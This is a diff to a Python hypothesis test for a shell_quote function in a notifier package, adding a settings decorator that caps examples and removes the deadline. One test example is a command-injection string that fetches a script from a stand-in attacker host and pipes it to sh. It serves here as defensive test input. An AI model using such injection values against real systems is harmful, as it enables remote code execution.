@@ -7,7 +7,7 @@ import subprocess
 import unicodedata
 
 import pytest
-from hypothesis import example, given
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from notifier.display import (
@@ -218,6 +218,8 @@ def test_shell_quote_of_the_issue_key_is_one_inert_word():
 @given(ANY_TEXT.filter(lambda s: "\x00" not in s and not any(0xD800 <= ord(c) <= 0xDFFF for c in s)))
 @example("x;curl${IFS}https://evil.example/s|sh;.gz")
 @example("key with @here and %%% and \u202e and \n")
+# Each example starts a bash process: its time is the machine's load, not the code's.
+@settings(max_examples=50, deadline=None)
 def test_shell_quote_names_exactly_the_value_in_bash(value):
     word = shell_quote(value)
     assert hidden_characters(word) == [] and "@" not in word and "%%%" not in word
